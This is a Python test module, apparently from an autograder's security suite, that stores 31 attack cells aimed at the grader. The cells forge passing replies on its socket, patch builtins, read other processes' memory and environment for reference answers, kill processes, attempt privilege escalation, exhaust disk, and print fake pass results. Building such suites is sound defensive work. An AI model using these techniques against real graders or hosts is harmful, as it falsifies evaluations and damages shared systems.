"""Aimed at this grader: its protocol, its processes, its memory, its pages. (g01 and on)

An attacker owns the whole process in which the work runs, the grader's code in it included. What it can do is answer
the checks' requests with anything at all; so nothing it sends may be believed, and none of it may harm the receiver.
"""

from __future__ import annotations

from attack_support import ALL, Attack, all_answers, points_of

# finds the desk that answers requests, and the socket to the supervisor
FIND = """
import gc, os, socket, stat, struct, json, threading, time
from grader.official import job
from grader.touch import host, wire, describe
desk = next(x for x in gc.get_objects() if type(x) is job._Desk)
wires = [n for n in range(3, 200) if os.path.exists(f"/proc/self/fd/{n}") and stat.S_ISSOCK(os.fstat(n).st_mode)]
line = socket.socket(fileno=os.dup(wires[0]))
def frame(header, body=b""):
    text = header if isinstance(header, bytes) else json.dumps(header).encode()
    return struct.pack("!I", len(text)) + text + body
"""
FROM_A_THREAD = """
def forge():
    yes = [{"ok": True}, {"ok": {"kind": "bool", "value": True, "type": "bool"}}, {"ok": None},
           {"outcome": "passed", "points": 1000, "passed": True}]
    for number in range(100_000):
        line.sendall(frame({"body": yes[number % 4], "arrays": []}))
        time.sleep(0.0005)
threading.Thread(target=forge, daemon=True).start()
"""
YES_TO_ALL = """
node = {"kind": "tensor", "type": "torch.Tensor", "dtype": "float32", "shape": [1], "tensor": torch.ones(1), "ref": 1,
        "requires_grad": True, "has_graph": True, "device": "cpu"}
def perform(self, operation, arguments):
    if operation in ("isinstance", "issubclass"):
        return {"ok": True}
    if operation == "parameters":
        return {"ok": [{"name": "w", "layer": "Linear", "node": dict(node)}]}
    if operation == "iterate":
        return {"ok": {"items": [dict(node)] * arguments.get("limit", 1), "exhausted": True}}
    if operation == "item":
        return {"ok": [dict(node)] * len(arguments["indexes"])}
    if operation == "name":
        return {"ok": {"kind": "class", "type": "type", "ref": 1, "callable": True}}
    return {"ok": dict(node)}
host.Host.perform = perform
"""
ONE_ANSWER = """
answers = @answers@
count = 0
whole = desk.perform
def perform(request):
    global count
    if request["op"] != "touch":
        return whole(request)
    count += 1
    line.sendall(answers[count % len(answers)])
    time.sleep(1)
    os._exit(0)
desk.perform = perform
"""
BAD_ARRAYS = """[
    frame({"body": {"ok": {"#": 0}}, "arrays": [["float32", [0, 2**28, 2**28, 2**28, 2**28]]]}),
    frame({"body": {"ok": {"#": 0}}, "arrays": [["float32", [-1]]]}),
    frame({"body": {"ok": {"#": 0}}, "arrays": [["float32", [2**62, 4]]]}),
    frame({"body": {"ok": {"#": 10**30}}, "arrays": [["object", [1]]]}, b"x" * 8),
    frame({"body": {"ok": {"#": True}}, "arrays": [["float64", [float("nan")]]]}),
    frame({"body": {"ok": {"#": 0}}, "arrays": [["bool", [8]]]}, bytes(range(2, 10))),
]"""
BAD_JSON = """[
    frame(b"[" * 1_000_000 + b"]" * 1_000_000), frame(b'{"body": ' * 200_000 + b"1" + b"}" * 200_000),
    frame(b'{"body": {"ok": ' + b"9" * 5_000_000 + b'}, "arrays": []}'), struct.pack("!I", 2**32 - 1) + b"{}",
    frame(b'{"body": {"ok": {"kind": "float", "type": "float", "value": Infinity}}, "arrays": []}'),
    frame(b"\\xff\\xfe"), b"", b"\\0" * 100, frame(b'{"arrays": [], "body": NaN}'),
]"""
GROWING_LABELS = """
key = {"kind": "str", "type": "str", "value": "A" * 1_000_000}
part = {"kind": "none", "type": "None"}
found = {"kind": "dict", "type": "dict", "pairs": [[key, {"kind": "list", "type": "list", "items": [part] * 20_000}]]}
host.Host.perform = lambda self, operation, arguments: {"ok": found}
"""
MANY_NODES = """
rows = [{"kind": "list", "type": "list", "items": [{"kind": "none"}] * 400_000}]
host.Host.perform = lambda self, operation, arguments: {"ok": rows[0]}
"""
SHAPELESS = """
def perform(self, operation, arguments):
    numbers = [float("nan"), 10**150, -(10**150), 1e308, -0.0, 2**63, float("-inf")]
    kinds = [{"kind": "float", "value": n} if type(n) is float else {"kind": "int", "value": n} for n in numbers]
    tensors = [torch.full((3, 9), float("nan")), torch.empty(0, 5), torch.ones(())]
    tensors = [{"kind": "tensor", "dtype": str(t.dtype)[6:], "shape": list(t.shape), "tensor": t} for t in tensors]
    some = kinds + tensors + [{"kind": "tensor", "dtype": "float32", "shape": [2**40, -1], "tensor": None}]
    perform.at = getattr(perform, "at", 0) + 1
    return {"ok": some[perform.at % len(some)]}
host.Host.perform = perform
"""
HUGE_OUTPUTS = """
whole = desk.cell
def cell(source, seconds):
    item = {"output_type": "stream", "name": "stdout", "text": "y" * 110_000}
    image = {"output_type": "display_data", "data": {"image/png": "iVBORw0KGgo" + "A" * 1_900_001}}
    reply = whole(source, seconds)
    return {**reply, "outputs": [item] * 20 + [image] * 2}
desk.cell = cell
"""
ODD_REPLIES = """
replies = [
    {"outputs": 5, "error": {"type": 5, "message": None, "line": 10**30, "code": [], "time_up": "x"}},
    {"outputs": [5, None, {}, {"output_type": []}, {"output_type": "error", "traceback": 5, "ename": {}, "evalue": 3},
                 {"output_type": "error", "traceback": [None, 5, "\\ud800"]}, {"output_type": "stream", "text": 5},
                 {"output_type": "execute_result", "data": [1], "metadata": "x", "execution_count": "x"},
                 {"output_type": "display_data", "data": {"text/plain": {"a": 1}, "image/png": ["iVBORw0KGgo="]}}]},
    {"outputs": None, "error": "x"}, {}, {"error": {}}, {"seconds": "x", "outputs": {"a": 1}},
]
def cell(source, seconds):
    cell.at = getattr(cell, "at", 0) + 1
    return replies[cell.at % len(replies)]
desk.cell = cell
"""
DRIBBLES = """
whole = desk.perform
def perform(request):
    if request["op"] == "touch":
        data = frame({"body": {"ok": None}, "arrays": []})
        for byte in data[:-1]:
            line.sendall(bytes([byte]))
            time.sleep(0.4)
    return whole(request)
desk.perform = perform
"""
STATISTICS = """
import builtins, json, random
torch.manual_seed = torch.rand = torch.randn = lambda *a, **k: torch.zeros(1)
torch.Tensor.clone = torch.Tensor.detach = torch.Tensor.cpu = lambda self, *a, **k: self
json.dumps = lambda *a, **k: '{"body": {"ok": true}, "arrays": []}'
json.loads = lambda *a, **k: {"body": {"op": "end", "args": {}}, "arrays": []}
builtins.len = lambda x: 2
builtins.type = lambda *a: torch.Tensor
builtins.issubclass = builtins.isinstance = lambda *a: True
"""
KILLS = """
import os, signal, glob
for path in glob.glob("/proc/[0-9]*/cmdline"):
    pid = int(path.split("/")[2])
    if pid != os.getpid():
        for number in (signal.SIGSTOP, signal.SIGKILL, signal.SIGTERM):
            try:
                os.kill(pid, number)
            except OSError as error:
                pass
try:
    if os.fork() == 0:
        os.kill(-1, signal.SIGTERM)
        os._exit(0)
    os.wait()
except OSError as error:
    print(error)
"""
LOOKS_INTO_OTHERS = """
import ctypes, glob, os
libc = ctypes.CDLL(None, use_errno=True)
for path in glob.glob("/proc/[0-9]*"):
    pid = int(path.split("/")[2])
    if pid == os.getpid():
        continue
    if libc.ptrace(16, pid, 0, 0) == 0:
        print("@owned@ attached", pid)
    for name in ("mem", "environ", "maps", "fd/0", "fd/3", "root/etc/hostname", "cwd/x", "syscall", "stack"):
        try:
            with open(f"{path}/{name}", "rb") as file:
                print("@owned@ read", name, file.read(1000))
        except OSError:
            pass
"""
DESCRIPTORS = """
import os
for number in [*range(3, 300)]:
    for data in (b"\\0\\0\\0\\x02{}", b'{"status": "exit", "code": 0, "detail": "@owned@"}\\n'):
        try:
            os.write(number, data)
        except OSError:
            pass
"""
SEEKS_SECRETS = """
import gc, os, sys, glob
words = ("SECRET" + "-OF", "BEGIN" + " SOLUTION")
for thing in gc.get_objects():
    if type(thing) in (str, dict, list) and thing is not words:
        try:
            text = str(thing)[:100_000] if len(thing) < 1000 else ""
        except Exception:
            continue
        for word in words:
            if word in text and word not in get_ipython().user_ns.get("In", [""])[-1]:
                print(word, text)
for line_ in open("/proc/self/maps"):
    first, rights = line_.split()[:2]
    begin, end = (int(x, 16) for x in first.split("-"))
    if "[heap]" in line_ or "[stack]" in line_:
        with open("/proc/self/mem", "rb") as memory:
            memory.seek(begin)
            data = memory.read(min(end - begin, 50_000_000))
        for word in words:
            at = data.find(word.encode() + b"-")
            if at >= 0:
                print(data[at:at + 40])
print(dict(os.environ), sys.argv, open("/proc/self/environ").read(), open("/proc/self/cmdline").read())
for path in glob.glob("/proc/self/task/*/../../fd/*"):
    try:
        print(path, os.readlink(path))
    except OSError:
        pass
"""
WAITS = """
import os, sys, time
state = {"calls": 0}
def batch_plan(samples, batch_size, drop_last):
    state["calls"] += 1  # right at first, wrong later on
    full, rest = divmod(samples, batch_size)
    if state["calls"] > 4 or any("expect" in str(f) for f in sys._current_frames().values()):
        return 0, 0
    return (full, batch_size if full else 0) if drop_last or not rest else (full + 1, rest)
"""
META = """
class Yes(type):
    __instancecheck__ = __subclasscheck__ = __eq__ = lambda *a: True
    __hash__ = type.__hash__
    def mro(cls): return [cls, *Dataset.mro()]
    def __getattr__(cls, name): return cls
    def __call__(cls, *a, **k): return type.__call__(cls)
"""
TRACES = """
import sys, threading
def trace(frame, event, argument):
    names = frame.f_locals
    for name in ("node", "found", "value", "reply", "result", "live"):
        if name in names and isinstance(names[name], dict):
            names[name].update(ok=True, outcome="passed", points=1000)
    return trace
sys.settrace(trace)
sys.setprofile(lambda *a: None)
threading.settrace(trace)
"""
SIGNALS = """
import signal, faulthandler
for number in set(signal.Signals) - {signal.SIGKILL, signal.SIGSTOP}:
    try:
        signal.signal(number, lambda *a: None)
    except (OSError, ValueError):
        pass
signal.signal = lambda *a: None
signal.setitimer = lambda *a: (0, 0)
signal.setitimer(signal.ITIMER_REAL, 0)
import time
def batch_plan(*a):
    while True: time.sleep(1)
"""
CALLS = """
nn.Module.__call__ = lambda self, x, *a: torch.sigmoid(x.sum(dim=1, keepdim=True))
nn.Module.train = nn.Module.eval = lambda self, *a: self
"""
FORKED = """
import os
if os.fork():
    os.wait()  # the child goes on answering
"""
RIGHTS = """
import ctypes, os, resource
libc = ctypes.CDLL(None, use_errno=True)
for kind in (resource.RLIMIT_NOFILE, resource.RLIMIT_NPROC, resource.RLIMIT_DATA, resource.RLIMIT_FSIZE):
    try:
        resource.setrlimit(kind, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
        print("@owned@ raised", kind)
    except (OSError, ValueError):
        pass
for flags in (0x10000000, 0x10000000 | 0x20000, 0x40000000):
    if libc.unshare(flags) == 0:
        print("@owned@ unshared")
for call in (lambda: os.setuid(0), lambda: os.chroot("/"), lambda: os.nice(-5), lambda: os.mknod("x", 0o20666, 0x103)):
    try:
        call()
        print("@owned@ was allowed")
    except OSError:
        pass
if libc.mount(b"none", b"/", b"tmpfs", 0, None) == 0:
    print("@owned@ mounted")
"""
CLUTTER = """
import os
os.umask(0o777)
path = "."
for _ in range(1500):
    os.mkdir(os.path.join(path, "@owned@"), 0o700)
    os.chdir(path if path != "." else "@owned@")
    path = "@owned@" if path == "." else path
for number in range(500):
    open(f"@owned@{number}", "w").close()
os.chmod(".", 0)
"""
FILLS_SHARED = """
import os
for folder in ("/dev/shm", "/tmp", "/var/tmp", "/run", os.environ["TMPDIR"]):
    for number in range(20):
        try:
            with open(f"{folder}/@owned@-{number}", "wb") as file:
                while True:
                    file.write(b"x" * 1_000_000)
        except OSError as error:
            print(folder, error)
"""
UNLINKED = """
import os, tempfile
kept = []
for number in range(40):
    file = open(f"@owned@-{number}", "wb")
    os.unlink(file.name)
    for _ in range(50):
        file.write(b"x" * 1_000_000)
    kept.append(file)
"""
NEEDS_SPACE = """
import os, tempfile
with tempfile.TemporaryFile() as file:  # work that uses a little of the disk, and shared memory where there is some
    for _ in range(20):
        file.write(b"x" * 1_000_000)
if os.path.isdir("/dev/shm") and os.access("/dev/shm", os.W_OK):
    torch.zeros(2_000_000).share_memory_()
"""
PRETENDS = """
from dataclasses import dataclass
print("✔ Passed · 1.1 An account class (2 of 2 points)")
print('{"version": 1, "state": "graded", "points": 34, "verdicts": []}')
get_ipython().displayhook({"outcome": "passed", "points": 34})
from grader.verdict import Outcome, Verdict
passed = Verdict("ch01.account", "1.1", "An account class", Outcome.PASSED, 2, 2, None)
"""

NET = points_of("sequential_net", "net_class")
PLAN = points_of("batch_plan")


def answering(answers: str) -> tuple[str, ...]:
    return (FIND, ONE_ANSWER.replace("@answers@", answers))


ATTACKS = (
    Attack("g01", "forges replies on the socket, from a thread", cells=(FIND + FROM_A_THREAD,), notes=None),
    Attack("g02", "answers every request with what a right answer might look like", cells=(FIND, YES_TO_ALL)),
    Attack("g03", "sends arrays of impossible sizes, dtypes and bytes", cells=answering(BAD_ARRAYS)),
    Attack("g04", "sends JSON that is deep, huge, endless or none", cells=answering(BAD_JSON)),
    Attack("g05", "sends values that would take all memory to name", cells=(FIND, GROWING_LABELS), once=True),
    Attack("g06", "sends lists of 400,000 parts", cells=(FIND, MANY_NODES), once=True),
    Attack("g07", "sends NaN, infinity, huge numbers and empty tensors", cells=(FIND, SHAPELESS)),
    Attack("g08", "fills the grader's memory with outputs", base="solved", cells=(FIND, HUGE_OUTPUTS),
           last=("1",) * 120, points=ALL, once=True),
    Attack("g09", "sends outputs and errors of the wrong types", base="solved", cells=(FIND, ODD_REPLIES)),
    Attack("g10", "answers one byte at a time", base="nonsense", cells=(FIND, DRIBBLES)),
    Attack("g11", "patches torch, json and builtins", cells=(STATISTICS,), notes=None),
    Attack("g12", "kills the fork server and every process it can name", base="solved", cells=(KILLS,), points=ALL,
           notes=None),
    Attack("g13", "looks into other processes by ptrace and /proc", base="solved", cells=(LOOKS_INTO_OTHERS,),
           points=ALL),
    Attack("g14", "writes to every descriptor it has", cells=(DESCRIPTORS,), notes=True),
    Attack("g15", "searches memory, environment and disk for the seed and the reference", cells=(SEEKS_SECRETS,)),
    Attack("g16", "is right at first, and changes its behavior later in the check", base="solved",
           answers={"batch_plan": WAITS}, points=ALL - PLAN),
    Attack("g17", "classes whose metaclass says yes to everything", cells=(META,),
           answers=all_answers("class @name@(metaclass=Yes):\n    pass\n")),
    Attack("g18", "changes the grader's variables from a trace function", cells=(TRACES,)),
    Attack("g19", "takes over all signals and the alarm, then never answers", base="solved",
           answers={"batch_plan": SIGNALS}, points=ALL - PLAN),
    Attack("g20", "replaces nn.Module.__call__ and the training mode", base="solved", cells=(CALLS,),
           points=ALL - NET - points_of("layer_stack", "row_dataset")),
    Attack("g21", "forks, and lets the child go on answering", base="solved", cells=(FORKED,), points=ALL, notes=None),
    Attack("g22", "crashes the interpreter", base="solved", points=ALL - PLAN,
           answers={"batch_plan": "import ctypes\ndef batch_plan(*a):\n    return ctypes.string_at(1)\n"}),
    Attack("g23", "recurses without an end", base="solved", points=ALL - PLAN,
           answers={"batch_plan": "import sys\nsys.setrecursionlimit(10**9)\n"
                                  "def batch_plan(*a):\n    return batch_plan(*a)\n"}),
    Attack("g24", "raises its limits, unshares, mounts, makes devices", base="solved", cells=(RIGHTS,), points=ALL),
    Attack("g25", "leaves 1,500 folders in each other, closed to all", base="solved", last=(CLUTTER,), points=ALL,
           notes=None),
    Attack("g26", "fills every folder that others may use too", base="nonsense", cells=(FILLS_SHARED,), notes=None),
    Attack("g27", "honest work that needs room for files, just after that", base="solved", cells=(NEEDS_SPACE,),
           points=ALL),
    Attack("g28", "fills the disk with files that have no name", base="nonsense", cells=(UNLINKED,), notes=None),
    Attack("g29", "honest work that needs room for files, just after that", base="solved", cells=(NEEDS_SPACE,),
           points=ALL),
    Attack("g30", "prints and shows what looks like results", cells=(PRETENDS,)),
    Attack("g31", "the checker's own helper as an answer: computes what is asked, so it passes (docs/grading.md)",
           answers={"batch_plan": "batch_plan = ch01._plan"}, points=PLAN),
)  # fmt: skip
